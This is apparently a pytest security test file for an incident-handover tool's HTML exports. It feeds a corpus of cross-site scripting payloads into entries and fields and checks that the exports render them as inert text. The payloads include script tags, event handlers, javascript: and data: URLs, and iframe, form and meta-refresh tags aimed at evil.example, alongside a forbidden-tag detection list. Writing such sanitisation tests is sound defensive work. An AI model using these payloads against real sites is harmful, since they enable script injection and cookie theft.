"""No export may run anything that came from entry text.

Every payload goes in as entry text (and into other user-controlled fields); the HTML
exports are then parsed and must hold no script, no event handler, no dangerous URL,
no external resource, while the text still reads as the user wrote it.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from helpers.handover import populate

from warroom.handover.brief import build_brief, render_brief_html
from warroom.handover.html import render_html
from warroom.handover.report import build_report, report_html
from warroom.handover.view import load_view
from warroom.services.timeline import Timeline
from warroom.store import Store

# (payload, what the reader must still see)
CORPUS: list[tuple[str, str]] = [
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ('<a href="javascript:alert(1)">click</a>', '<a href="javascript:alert(1)">click</a>'),
    ("[click me](javascript:alert(1))", "[click me](javascript:alert(1))"),
    ("[click](JaVaScRiPt:alert(document.cookie))", "[click](JaVaScRiPt:alert(document.cookie))"),
    ("[x](&#106;avascript:alert(1))", "[x](javascript:alert(1))"),
    ("[x](&#x6A;avascript&colon;alert(1))", "avascript:alert(1))"),
    ("[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[d](data:text/html"),
    ("[v](vbscript:msgbox(1))", "[v](vbscript:msgbox(1))"),
    ("<javascript:alert(1)>", "<javascript:alert(1)>"),
    ("[ref link][r]\n\n[r]: javascript:alert(1)", "[ref link][r]"),
    ("![pixel](https://tracker.example/p.gif)", "pixel"),
    ("![x](javascript:alert(1))", "![x](javascript:alert(1))"),
    ("<svg onload=alert(1)><circle r=1></svg>", "<svg onload=alert(1)><circle r=1></svg>"),
    ("<svg><script>alert(1)</script></svg>", "<svg><script>alert(1)</script></svg>"),
    ("<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<math><mtext>"),
    ("<style>body{background:url(https://evil.example/x)}</style>", "<style>body{background:"),
    ('<div style="background:url(javascript:alert(1))">x</div>', '<div style="background:'),
    ("<iframe src=https://evil.example></iframe>", "<iframe src=https://evil.example></iframe>"),
    (
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<meta http-equiv="refresh"',
    ),
    ("<base href=https://evil.example/>", "<base href=https://evil.example/>"),
    (
        "<form action=https://evil.example><input name=p></form>",
        "<form action=https://evil.example>",
    ),
    ("<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=stylesheet"),
    ("<object data=x.swf></object><embed src=x.swf>", "<object data=x.swf></object>"),
    ('"><script>alert(1)</script>', '"><script>alert(1)</script>'),
    ("' onmouseover='alert(1)", "' onmouseover='alert(1)"),
    ("</div></body><script>alert(1)</script>", "</div></body><script>alert(1)</script>"),
    ("<!--<script>alert(1)</script>-->", "<!--<script>alert(1)</script>-->"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    ("`<script>alert(1)</script>` in code", "<script>alert(1)</script>"),
    ("```\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
    ("[ok](https://status.example.ch/?a=1&b=<2>)", "ok"),
    ("Grüezi – normal text with **bold** and _em_", "Grüezi – normal text with bold and em"),
]

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "base", "link", "img", "svg", "math", "video", "audio",
    "source", "track", "picture", "portal", "template", "noscript",
}  # fmt: skip
URL_ATTRS = {"href", "src", "action", "formaction", "background", "srcset", "poster", "data",
             "xlink:href", "ping", "cite", "longdesc", "usemap", "codebase"}  # fmt: skip
META_OK = {("charset", None), ("http-equiv", "content-security-policy"), ("name", "referrer"),
           ("name", "viewport")}  # fmt: skip


class Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.styles = 0
        self._skip = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag in {"style", "title"}:
            self._skip += 1
            self.styles += tag == "style"
        if tag == "meta":
            keyed = {(k, (v or "").lower() if k != "charset" else None) for k, v in attrs}
            if not keyed & META_OK:
                self.problems.append(f"meta {attrs}")
        for name, value in attrs:
            n = name.lower()
            if n.startswith("on"):
                self.problems.append(f"handler {n}")
            if n == "style":
                self.problems.append("style attribute")
            if n in URL_ATTRS:
                v = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
                if n != "href" or not v.startswith(("http://", "https://", "mailto:")):
                    self.problems.append(f"{n}={value!r}")

    def handle_endtag(self, tag: str) -> None:
        if tag in {"style", "title"}:
            self._skip -= 1

    def handle_data(self, data: str) -> None:
        if not self._skip:
            self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")


def audit(html: str) -> Audit:
    a = Audit()
    a.feed(html)
    a.close()
    return a


def squash(s: str) -> str:
    return " ".join(s.split())


@pytest.fixture
def iid(store: Store) -> str:
    i = populate(store)
    tl = Timeline(store, author="mallory")
    for n, (payload, _) in enumerate(CORPUS):
        e = tl.log(i, payload, pinned=n % 3 == 0, kind="comms" if n % 4 == 0 else None).value
        if n % 5 == 0:
            tl.hide(e.id, payload)
    evil = Timeline(store, author="<img src=x onerror=alert('author')>")
    evil.log(i, "entry by an odd author")
    evil.add_action(i, "<script>alert('action')</script>", owner="<b onclick=x>owner</b>")
    evil.set_incident(
        i,
        title="<script>alert('title')</script> Outage",
        summary="[s](javascript:alert('summary'))",
        impact="<iframe src=https://evil.example>",
        objectives="<svg onload=alert(1)>",
        commander="<img src=x onerror=alert('cmd')>",
        next_commander="<script>x</script>",
    )
    return i


def _check(html: str) -> Audit:
    a = audit(html)
    assert a.problems == []
    assert a.styles <= 1
    low = html.lower()
    assert "<script" not in low
    assert not re.search(r"<[^>]+\s(href|src)\s*=\s*['\"]?\s*(javascript|data|vbscript):", low)
    assert "@import" not in low
    for css in re.findall(r"<style>(.*?)</style>", low, re.S):
        assert "url(" not in css  # our stylesheet fetches nothing
    return a


def test_timeline_export_survives_the_corpus(store: Store, iid: str) -> None:
    a = _check(render_html(load_view(store, iid, include_hidden=True)))
    visible = squash("".join(a.text))
    for payload, expected in CORPUS:
        assert squash(expected) in visible, payload
    assert "<script>alert('title')</script> Outage" in visible
    assert "<img src=x onerror=alert('author')>" in visible
    assert "<b onclick=x>owner</b>" in visible


def test_safe_links_stay_clickable_and_unsafe_do_not(store: Store, iid: str) -> None:
    html = render_html(load_view(store, iid, include_hidden=True))
    assert 'href="https://status.example.ch/?a=1&amp;b=%3C2%3E"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "tracker.example/p.gif" not in re.sub(r'href="[^"]*"', "", html)  # text, not a load


def test_brief_and_report_survive_the_corpus(store: Store, iid: str) -> None:
    brief = build_brief(store, iid, prepared_by="<script>me</script>", prepared_for="<i>you</i>")
    for qt in (False, True):
        a = _check(render_brief_html(brief, qt=qt))
        assert "<script>me</script>" in "".join(a.text)
    draft = build_report(store, iid)
    a = _check(report_html(draft.markdown, draft.title))
    assert "<script>alert('title')</script> Outage" in squash("".join(a.text))
    # An edited report with raw HTML typed into it is still inert.
    _check(report_html(draft.markdown + "\n\n<script>alert(1)</script><img src=x onerror=y>", "t"))


def test_pdf_html_variant_survives_the_corpus(store: Store, iid: str) -> None:
    a = _check(render_html(load_view(store, iid, include_hidden=True), qt=True))
    visible = squash("".join(a.text))
    for _payload, expected in CORPUS:
        assert squash(expected) in visible
